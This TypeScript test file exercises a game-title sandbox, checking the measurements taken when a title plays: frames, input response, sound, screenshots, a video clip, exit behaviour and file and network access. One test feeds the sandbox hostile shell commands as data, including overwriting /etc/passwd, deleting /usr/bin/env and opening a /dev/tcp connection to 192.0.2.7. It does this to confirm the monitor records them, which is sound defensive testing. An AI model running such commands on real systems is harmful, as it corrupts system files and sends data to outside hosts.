import { createHash } from 'node:crypto'
import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect } from 'chai'
import { decodeValue } from '../../../config/protocol/decode.ts'
import { checkMeasures, type CheckMeasures, clipParts, maxClipBytes } from '../../../config/protocol/check.ts'
import type { TitleManifest } from '../../../config/protocol/title.ts'
import { measureTitle } from '../../../edge/check/measure.ts'
import { startDisplay } from '../../../edge/display/xvfb.ts'
import { realParts } from '../../../edge/session/parts.ts'
import { createClipParts } from '../../../server/publishing/clipOf.ts'
import { startSound } from '../../../edge/sound/pulse.ts'
import { buildTitles } from '../../../edge/titles/build.ts'
import { encodeClip } from '../../../edge/titles/clip.ts'
import { findFfmpeg } from '../../../edge/titles/ffmpeg.ts'
import { loadTitles } from '../../../edge/titles/catalogue.ts'

const titlesDir = fileURLToPath(new URL('../../../edge/titles/', import.meta.url))
const messages = '/usr/bin/xmessage'

/** What the check finds of a title, really played. */
async function measured(
  id: string,
  seat: number,
  change: (manifest: TitleManifest) => TitleManifest = (manifest) => manifest,
): Promise<CheckMeasures & { readonly clip: Buffer | null }> {
  const sessionDir = await mkdtemp(join(tmpdir(), 'nearcade-test-check-'))
  const found = (await loadTitles(titlesDir)).find(({ manifest }) => manifest.id === id)
  if (found === undefined) throw new Error(`there is no title ${id}`)
  const title = { ...found, manifest: change(found.manifest) }
  const [builtDir, homeDir] = [join(sessionDir, 'built'), join(sessionDir, 'home')]
  await mkdir(homeDir)
  await buildTitles([title], builtDir)
  const { widthPx, heightPx } = title.manifest.display
  await using display = await startDisplay({ sessionDir, seat, widthPx, heightPx })
  await using sound = await startSound({ sessionDir, seat })
  const beganMs = performance.now()
  const played = await realParts.startTitle({
    title,
    builtDir,
    sessionId: `check-${id}`,
    seat,
    homeDir,
    display,
    sound,
    isWatched: true,
  })
  try {
    const signal = new AbortController().signal
    const picture = await realParts.waitForPicture(display, { timeoutMs: 8_000, signal })
    const firstPictureMs = picture === 'seen' ? performance.now() - beganMs : null
    const { measures, clip } = await measureTitle({
      ...played,
      ...{ display, sound, homeDir, firstPictureMs, workDir: homeDir },
      makeClip(film, folder) {
        const { path: ffmpeg } = findFfmpeg({ PATH: process.env['PATH'] })
        return encodeClip(film, { ffmpeg, folder, maxBytes: maxClipBytes })
      },
    })
    expect((await readdir(homeDir)).filter((name) => name.startsWith('clip-'))).to.deep.equal([])
    // As the router reads it.
    expect(decodeValue(checkMeasures, JSON.parse(JSON.stringify(measures)))).to.deep.include({ ok: true })
    return { ...measures, clip }
  } finally {
    await played.close()
    await rm(sessionDir, { recursive: true, force: true })
  }
}

describe('what is measured of a title', function () {
  this.timeout(60_000)

  it('is what it does: frames, answers to inputs, sound, a full screen, and an end when it is asked to', async () => {
    const measures = await measured('latency-lab', 61)
    expect(measures.firstPictureMs).to.be.within(1, 8_000)
    expect(measures.framesBySecond.length).to.be.at.least(5)
    expect(measures.changedByInput).to.be.at.least(0.002)
    expect(measures.loudestDbfs).to.be.within(-70, 0)
    expect(measures.pictures.map(({ name }) => name)).to.deep.equal(['begin', 'end'])
    for (const { png } of measures.pictures) {
      const bytes = Buffer.from(png, 'base64')
      expect(bytes.subarray(1, 4).toString()).equals('PNG')
      expect([bytes.readUInt32BE(16), bytes.readUInt32BE(20)]).to.deep.equal([426, 240])
    }
    const { clip } = measures
    expect(clip?.length).to.be.within(10_000, maxClipBytes)
    // H.264 and AAC, the index of both before them.
    const words = clip?.toString('latin1') ?? ''
    expect(['ftyp', 'moov', 'avc1', 'mp4a', 'mdat'].map((word) => words.indexOf(word) > 0)).not.to.include(
      false,
    )
    expect(words.indexOf('moov')).to.be.below(words.indexOf('mdat'))
    const parts = createClipParts()
    const sent = clipParts(clip?.toString('base64') ?? '')
    for (const part of sent) parts.add(part)
    expect(parts.whole()).equals(clip?.toString('base64'))
    parts.add({ part: 20, data: 'AAAA' })
    expect(parts.whole()).equals(null)
    expect(measures.windows).to.deep.include({ xPx: 0, yPx: 0, widthPx: 1280, heightPx: 720 })
    expect(measures.access).to.deep.equal({ by: 'calls', reached: [], wrote: [], lost: [] })
    expect(measures.exit).to.include({ asked: true })
  })

  it('is that it does nothing at all: a message in the way of a game that never comes', async function () {
    if (!existsSync(messages)) this.skip()
    const runtime = { kind: 'linux', env: {}, needs: [], packages: [] } as const
    const measures = await measured('latency-lab', 62, (manifest) => ({
      ...manifest,
      runtime: {
        ...runtime,
        command: ['sh', '-c', `trap '' TERM; ${messages} -center 'Choose a language'`],
        needs: [],
        packages: [],
      },
    }))
    expect(measures.loudestDbfs).equals(null)
    const [window] = measures.windows
    expect(window?.widthPx).to.be.below(1280)
    expect(measures.framesBySecond.filter((drawn) => drawn >= 5)).to.deep.equal([])
  })

  it('is that it ended before it was asked to, and what it said and tried', async () => {
    const tries = [
      'echo mine | tee ~/save ~/other > /tmp/save',
      'echo me:0 > /etc/passwd; rm /usr/bin/env; echo not kept > /opt/title/save',
      'mkdir -p /var/games/scores; (echo hello > /dev/tcp/192.0.2.7/443)',
      'getent hosts updates.example',
    ]
    const measures = await measured('latency-lab', 63, (manifest) => ({
      ...manifest,
      saves: ['sav*'],
      runtime: {
        kind: 'linux',
        env: {},
        command: ['bash', '-c', `${tries.join('; ')}; echo no data found; exit 3`],
        needs: [],
        packages: [],
      },
    }))
    expect(measures.firstPictureMs).equals(null)
    expect(measures.clip).equals(null)
    expect(measures.exit).to.deep.include({ kind: 'exited', code: 3, asked: false })
    expect(measures.log).to.include('no data found')
    const [saved] = measures.saves?.files ?? []
    expect(saved).to.deep.include({ path: 'save', size: 5 })
    expect(saved?.sha256).equals(createHash('sha256').update('mine\n').digest('hex'))
    expect(measures.saves?.others).to.deep.equal(['other'])
    expect(measures.access).to.deep.equal({
      by: 'calls',
      reached: ['192.0.2.7:443', 'the address of a name (DNS)'],
      wrote: ['/etc/passwd', '/usr/bin/env'],
      lost: ['/opt/title/save', '/var'],
    })
  })
})
